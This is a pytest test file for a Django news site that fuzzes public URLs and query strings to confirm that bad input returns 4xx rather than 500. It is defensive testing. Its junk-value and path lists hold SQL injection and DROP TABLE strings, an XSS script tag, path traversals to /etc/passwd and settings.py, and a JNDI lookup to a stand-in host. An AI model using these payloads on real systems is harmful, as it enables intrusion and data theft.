"""Junk in public URLs and query strings gives a 4xx or is ignored, never a 500."""

import pytest
from django.urls import reverse

from tests.news.factories import ArticleFactory, AttachmentFactory

pytestmark = pytest.mark.django_db

JUNK_VALUES = [
    "",
    "0",
    "-1",
    "1e10",
    "99999999999999999999999999999999",
    "NaN",
    "last",
    "x" * 10_000,
    "\x00",
    "%00",
    "%ZZ",
    "1' OR '1'='1",
    "1; DROP TABLE news_article;--",
    "<script>alert(1)</script>",
    "新蒲京",
    "../../etc/passwd",
    "${jndi:ldap://x.example/a}",
]


@pytest.fixture
def site():
    article = ArticleFactory()
    AttachmentFactory(article=article)
    return article


def _public_urls(article):
    return [
        reverse("home"),
        reverse("news:article-list"),
        article.category.get_absolute_url(),
        article.get_absolute_url(),
        reverse("news:feed"),
    ]


@pytest.mark.parametrize("value", JUNK_VALUES, ids=range(len(JUNK_VALUES)))
def test_junk_query_values_never_break_a_page(client, site, value):
    for url in _public_urls(site):
        for name in ("page", "q", "category", "year", "utm_source"):
            response = client.get(url, {name: value})
            assert response.status_code in {200, 400, 404}, (url, name, response.status_code)


def test_invalid_utf8_in_query_strings(client, site):
    for url in _public_urls(site):
        for raw in ("%ED%A0%80", "%FF%FE", "%C0%AF", "%E6%96"):
            response = client.get(f"{url}?page={raw}&q={raw}")
            assert response.status_code in {200, 400, 404}, (url, raw)


def test_repeated_and_bracketed_parameters(client, site):
    for url in _public_urls(site):
        query = "page=1&page=2&page[]=3&page[x]=4&=&&&"
        response = client.get(f"{url}?{query}")
        assert response.status_code in {200, 400, 404}, url


def test_overlong_query_string(client, site):
    for url in _public_urls(site):
        response = client.get(f"{url}?{'a=' + 'b' * 100_000}")
        assert response.status_code in {200, 400, 404, 414}, url


@pytest.mark.parametrize(
    "path",
    [
        "/news/99999999999999999999999999.html",
        "/news/0.html",
        "/news/-1.html",
        "/news/1%00.html",
        "/news/abc.html",
        "/news/category/%00/",
        "/news/category/" + "x" * 5000 + "/",
        "/news/category/../../etc/passwd/",
        "/news/category/新蒲京/",
        "/news/attachments/99999999999999999999999999/",
        "/news/preview/1/",
        "/media/../kexie/settings.py",
    ],
)
def test_junk_paths_answer_4xx(client, site, path):
    response = client.get(path)
    assert 400 <= response.status_code < 500 or response.status_code == 302, response.status_code


def test_page_beyond_the_end_shows_the_last_page(client, site):
    response = client.get(reverse("news:article-list"), {"page": "999999"})
    assert response.status_code == 200
    assert site.title in response.text
